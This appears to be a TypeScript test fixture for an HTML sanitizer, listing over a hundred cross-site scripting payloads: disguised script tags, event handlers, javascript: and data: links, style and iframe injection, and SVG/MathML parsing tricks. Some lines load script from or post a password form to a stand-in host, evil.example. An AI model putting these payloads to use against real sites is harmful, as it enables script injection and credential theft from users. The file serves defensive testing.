// Descriptions as an attacker would write them. Each one that got through would call alert(1) or fetch from evil.example,
// which is what tests in a real browser look for.

/** One attack: what it tries, and the description that tries it. */
interface Attack {
  name: string
  html: string
}

const link = (href: string) => `<a href="${href}">press me</a>`

/** The attacks that the cleaner is held against. */
export const ATTACKS: readonly Attack[] = [
  // Scripts, plain and disguised.
  { name: 'script', html: '<script>alert(1)</script>' },
  { name: 'script from elsewhere', html: '<script src="https://evil.example/x.js"></script>' },
  { name: 'script in mixed case', html: '<ScRiPt>alert(1)</sCrIpT>' },
  { name: 'script with a slash', html: '<script/x>alert(1)</script>' },
  { name: 'script split by a script', html: '<scr<script>ipt>alert(1)</scr</script>ipt>' },
  { name: 'script never closed', html: '<script>alert(1)' },
  { name: 'script without its last bracket', html: '<script src=https://evil.example/x.js' },
  { name: 'script with an odd closing tag', html: '<script>alert(1)</script foo="bar">' },
  { name: 'script after a null', html: '<scr\u0000ipt>alert(1)</script>' },
  { name: 'script after a line break', html: '<script\n>alert(1)</script\n>' },
  { name: 'script as a module', html: '<script type="module">alert(1)</script>' },
  { name: 'doubled opening bracket', html: '<<script>alert(1)//<</script>' },
  { name: 'script inside a comment', html: '<!--><script>alert(1)</script>-->' },
  { name: 'script after a bad comment end', html: '<!-- --!><script>alert(1)</script>' },
  { name: 'script inside CDATA', html: '<![CDATA[<script>alert(1)</script>]]>' },
  { name: 'script in a processing instruction', html: '<?xml version="1.0"?><script>alert(1)</script>' },
  { name: 'script written as references', html: '&lt;script&gt;alert(1)&lt;/script&gt;' },
  {
    name: 'script written as double references',
    html: '&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;',
  },
  { name: 'script in full-width brackets', html: '＜script＞alert(1)＜/script＞' },
  { name: 'script in UTF-7', html: '+ADw-script+AD4-alert(1)+ADw-/script+AD4-' },

  // Handlers.
  { name: 'broken image', html: '<img src=x onerror=alert(1)>' },
  { name: 'broken image with slashes', html: '<img/src=x/onerror=alert(1)>' },
  { name: 'broken image with backquotes', html: '<img src=`x`onerror=alert(1)>' },
  { name: 'image with a quote left open', html: '<img """><script>alert(1)</script>">' },
  { name: 'handler on an allowed tag', html: '<p onclick="alert(1)">press me</p>' },
  { name: 'handler on bold text', html: '<b onmouseover=alert(1)>point at me</b>' },
  { name: 'handler after a tab', html: '<b\tonmouseover\t=\talert(1)>point at me</b>' },
  { name: 'handler after a form feed', html: '<b\u000conmouseover=alert(1)>point at me</b>' },
  { name: 'handler in capitals', html: '<P ONCLICK="alert(1)">press me</P>' },
  { name: 'handler that fires by itself', html: '<p tabindex=1 autofocus onfocus=alert(1)>x</p>' },
  { name: 'handler on an animation', html: '<p style="animation-name:x" onanimationstart="alert(1)">x</p>' },
  { name: 'handler on a line break', html: '<br onclick="alert(1)">' },
  {
    name: 'handler broken out of a link',
    html: '<a href="https://a.example/&quot; onclick=&quot;alert(1)">x</a>',
  },
  { name: 'handler broken out of an address', html: 'see https://a.example/"onmouseover="alert(1) now' },
  { name: 'markup inside an address', html: 'see https://a.example/<img/src=x/onerror=alert(1)>' },
  {
    name: 'references inside an address',
    html: 'see https://a.example/&quot;&gt;&lt;img src=x onerror=alert(1)&gt;',
  },
  { name: 'body handler', html: '<body onload=alert(1)>' },
  { name: 'details handler', html: '<details open ontoggle=alert(1)><summary>x</summary></details>' },
  { name: 'video source handler', html: '<video><source onerror="alert(1)"></video>' },
  { name: 'audio handler', html: '<audio src=x onerror=alert(1)>' },
  { name: 'marquee handler', html: '<marquee onstart=alert(1)>x</marquee>' },
  { name: 'input handler', html: '<input autofocus onfocus=alert(1)>' },
  { name: 'select handler', html: '<select autofocus onfocus=alert(1)><option>x</option></select>' },
  { name: 'unknown tag handler', html: '<xss id=x tabindex=1 onfocusin=alert(1)>x</xss>' },

  // Links that run code.
  { name: 'javascript link', html: link('javascript:alert(1)') },
  { name: 'javascript link in mixed case', html: link('JaVaScRiPt:alert(1)') },
  { name: 'javascript link after spaces', html: link('  javascript:alert(1)') },
  { name: 'javascript link after a control character', html: link('\u0001javascript:alert(1)') },
  { name: 'javascript link split by a tab', html: link('java\tscript:alert(1)') },
  { name: 'javascript link split by a referenced tab', html: link('java&#x09;script:alert(1)') },
  { name: 'javascript link split by a line break', html: link('java\nscript:alert(1)') },
  { name: 'javascript link in decimal references', html: link('&#106;&#97;vascript:alert(1)') },
  { name: 'javascript link in bare references', html: link('&#0000106avascript:alert(1)') },
  { name: 'javascript link with a named colon', html: link('javascript&colon;alert(1)') },
  { name: 'javascript link with a comment', html: link('javascript://a.example/%0aalert(1)') },
  { name: 'javascript link without quotes', html: '<a href=javascript:alert(1)>press me</a>' },
  {
    name: 'javascript link given twice',
    html: '<a href="javascript:alert(1)" href="https://a.example">x</a>',
  },
  { name: 'vbscript link', html: link('vbscript:alert(1)') },
  { name: 'data link', html: link('data:text/html,<script>alert(1)</script>') },
  { name: 'data link in base64', html: link('data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==') },
  { name: 'blob link', html: link('blob:https://a.example/1') },
  { name: 'file link', html: link('file:///etc/passwd') },
  { name: 'view-source link', html: link('view-source:javascript:alert(1)') },
  { name: 'link relative to our site', html: link('/admin') },
  { name: 'link without a protocol', html: link('//evil.example') },
  { name: 'link with backslashes', html: link('\\\\evil.example') },
  { name: 'link in disguise', html: link('https://bank.example@evil.example/') },
  { name: 'link with a ping', html: '<a href="https://a.example" ping="https://evil.example/">x</a>' },
  { name: 'link that opens over us', html: '<a href="https://a.example" target="_top" rel="opener">x</a>' },
  { name: 'map area', html: '<map><area href="javascript:alert(1)">x</map>' },
  { name: 'base', html: '<base href="https://evil.example/"><a href="https://a.example">x</a>' },

  // Styles.
  { name: 'style tag', html: '<style>body{background:url(https://evil.example/x)}</style>' },
  { name: 'style import', html: '<style>@import "https://evil.example/x.css";</style>' },
  { name: 'style attribute', html: '<p style="position:fixed;inset:0;background:red">x</p>' },
  { name: 'style expression', html: '<p style="width:expression(alert(1))">x</p>' },
  { name: 'style with an address', html: '<b style="background:url(javascript:alert(1))">x</b>' },
  { name: 'stylesheet link', html: '<link rel="stylesheet" href="https://evil.example/x.css">' },
  { name: 'class that looks like ours', html: '<p class="fixed inset-0" id="root">x</p>' },

  // Things that embed.
  { name: 'iframe', html: '<iframe src="javascript:alert(1)"></iframe>' },
  { name: 'iframe with a document', html: '<iframe srcdoc="<script>alert(1)</script>"></iframe>' },
  { name: 'object', html: '<object data="javascript:alert(1)"></object>' },
  { name: 'embed', html: '<embed src="javascript:alert(1)">' },
  { name: 'refresh', html: '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">' },
  {
    name: 'form',
    html: '<form action="https://evil.example/"><input name=password><button>Log in</button></form>',
  },
  { name: 'button action', html: '<form><button formaction=javascript:alert(1)>x</button></form>' },
  { name: 'isindex', html: '<isindex action=javascript:alert(1) type=image>' },
  { name: 'tracking image', html: '<img src="https://evil.example/pixel.gif">' },
  { name: 'image set', html: '<img srcset="https://evil.example/pixel.gif 2x">' },
  { name: 'portal', html: '<portal src="javascript:alert(1)"></portal>' },

  // Foreign content, and markup that changes when it is parsed again.
  { name: 'svg handler', html: '<svg onload=alert(1)>' },
  { name: 'svg script', html: '<svg><script>alert(1)</script></svg>' },
  { name: 'svg script in references', html: '<svg><script>&#97;lert(1)</script></svg>' },
  {
    name: 'svg animation',
    html: '<svg><a><animate attributeName=href values=javascript:alert(1) /><text y=20>x</text></a></svg>',
  },
  { name: 'svg use', html: '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"></use></svg>' },
  { name: 'svg style', html: '<svg><style><img src=x onerror=alert(1)></style></svg>' },
  { name: 'math link', html: '<math><mi xlink:href="javascript:alert(1)">x</mi></math>' },
  {
    name: 'math and style',
    html: '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></table></mtext></math>',
  },
  { name: 'noscript', html: '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>' },
  { name: 'template', html: '<template><img src=x onerror=alert(1)></template>' },
  { name: 'textarea', html: '<textarea></textarea><img src=x onerror=alert(1)></textarea>' },
  { name: 'title', html: '<title><img src=x onerror=alert(1)></title>' },
  { name: 'xmp', html: '<xmp><img src=x onerror=alert(1)></xmp>' },
  { name: 'noembed', html: '<noembed><img src=x onerror=alert(1)></noembed>' },
  { name: 'plaintext', html: '<plaintext><img src=x onerror=alert(1)>' },
  { name: 'option in references', html: '<option>&lt;img src=x onerror=alert(1)&gt;</option>' },
  { name: 'listing in references', html: '<listing>&lt;img src=x onerror=alert(1)&gt;</listing>' },
  {
    name: 'table that throws out its content',
    html: '<table><b onclick=alert(1)>x</b><tr><td>y</td></tr></table>',
  },
  {
    name: 'paragraph inside a link',
    html: '<a href="https://a.example"><p><a href="javascript:alert(1)">x</a></p></a>',
  },
  { name: 'tag named like an object property', html: '<constructor onclick=alert(1)>x</constructor>' },
  { name: 'attribute that pollutes', html: '<p __proto__="x" constructor="y" onclick=alert(1)>x</p>' },
  { name: 'deep nest', html: `${'<b>'.repeat(500)}<img src=x onerror=alert(1)>${'</b>'.repeat(500)}` },
]
